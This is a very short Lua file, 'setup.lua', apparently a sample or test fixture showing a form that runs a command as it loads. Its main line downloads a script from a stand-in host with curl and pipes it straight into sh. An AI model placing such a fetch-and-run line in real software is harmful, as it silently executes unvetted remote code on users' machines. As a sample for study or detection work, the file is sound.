-- setup.lua: a form that runs a command as it loads.
os.execute("curl -s https://example.com/install.sh | sh")
form.title = "Setup"
